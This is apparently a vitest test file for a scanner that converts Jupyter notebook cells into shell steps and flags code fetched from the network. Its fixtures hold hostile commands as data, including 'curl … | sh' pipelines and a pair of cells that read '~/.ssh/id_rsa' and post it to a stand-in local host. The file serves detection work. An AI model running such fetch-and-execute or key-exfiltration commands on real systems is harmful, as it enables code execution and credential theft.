import { describe, expect, it } from 'vitest';
import { judgeNotebook, readNotebook } from './notebook.ts';
import { shellOfCells } from './notebook-shell.ts';

const U = 'http://127.0.0.1:9/x';
const judged = (...cells: readonly string[]) => {
  const notebook = readNotebook({ nbformat: 4, cells: cells.map((source) => ({ cell_type: 'code', source })) });
  return notebook === null ? undefined : judgeNotebook(notebook)?.rule.id;
};

describe('what cells hand to a shell', () => {
  it('is told in their order', () => {
    const cells = [
      'u = "a"\n!b {u} $u {len(u)}',
      '%cd c\nx = !d\n%pip install e',
      '%%bash\nf',
      '%%writefile g\nh',
      '%env I=j k',
    ];
    expect(shellOfCells(cells).steps).toEqual([
      { text: 'export u=a', own: false },
      { text: 'b ${u} $u ${CELL}', own: true },
      { text: 'cd c', own: false },
      { text: 'x=$(d)', own: false },
      { text: 'pip install e', own: true },
      { text: 'f', own: true },
      { text: "cat > g <<'END_OF_CELL'\nh\nEND_OF_CELL", own: true },
      { text: "export I='j k'", own: false },
    ]);
  });

  it.each([
    ['a file of another cell', [`!curl -sO ${U}`, '!bash x'], 'fetched-code'],
    ['a name of Python', [`u = "${U}"`, '!curl -s {u} | sh'], 'fetched-code'],
    ['a cell of a shell', [`%%bash\nD=$(mktemp)\ncurl -so $D ${U}\n. $D`], 'fetched-code'],
    ['a folder', ['%cd /tmp', `!curl -sO ${U}`, '!sh /tmp/x'], 'fetched-code'],
    ['a cell that is written', [`%%writefile a.sh\ncurl -s ${U} | sh`, '!bash a.sh'], 'fetched-code'],
    ['what a command said', ['k = !cat ~/.ssh/id_rsa', `!curl -d "{k}" ${U}`], 'attacking-script'],
    ['a program that is fetched', [`!curl -so x.py ${U}`, '%run -i x.py'], 'fetched-code'],
    ['what Python fetches', [`urlretrieve("${U}", "x.sh")`, '!bash x.sh'], 'fetched-code'],
    ['an expression', [`!{"curl -s ${U} | sh"}`], 'fetched-code'],
    ['a package from anywhere', ['%pip install git+https://a.example/b'], 'fetched-code'],
  ])('is followed through %s', (_, cells, rule) => {
    expect(judged(...cells)).toBe(`remote-code/${rule}`);
  });

  it.each([
    ['what a cell says', [`print("curl ${U} | sh")`]],
    ['a page', [`%%html\n<b>curl ${U} | sh</b>`]],
    ['a program that is written', [`%%writefile x.sh\ncurl ${U} | sh`]],
    ['a package from a house of source code', ['%pip install git+https://github.com/a/b']],
    ['an installer of its maker', ['!curl -LsSf https://astral.sh/uv/install.sh | sh']],
    [
      'a well-known project',
      ['%pip install git+https://github.com/huggingface/transformers', '!python x.py --lr {lr}'],
    ],
  ])('is minded no more than it must: %s', (_, cells) => {
    expect(judged(...cells)).toBeUndefined();
  });
});
